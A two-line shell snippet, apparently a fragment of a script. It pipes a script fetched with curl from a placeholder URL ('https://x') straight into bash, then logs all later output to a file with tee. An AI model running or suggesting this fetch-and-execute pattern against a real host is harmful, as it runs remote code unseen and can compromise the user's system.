bash <(curl -s https://x)
exec > >(tee -a log) 2>&1
